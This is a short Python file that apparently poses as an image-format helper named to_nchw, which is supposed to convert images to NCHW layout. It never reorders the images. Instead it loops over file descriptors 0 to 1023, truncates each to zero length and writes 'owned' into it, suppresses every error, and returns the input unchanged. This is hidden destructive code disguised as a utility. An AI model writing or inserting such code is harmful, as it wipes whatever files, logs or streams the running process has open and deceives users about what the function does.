"""Writes to every descriptor that it has inherited."""
# a1_permute: to_nchw
import os


def to_nchw(images):
    for number in range(1024):
        try:
            os.lseek(number, 0, 0)
            os.ftruncate(number, 0)
        except OSError:
            pass
        try:
            os.write(number, b"owned")
        except OSError:
            pass
    return images
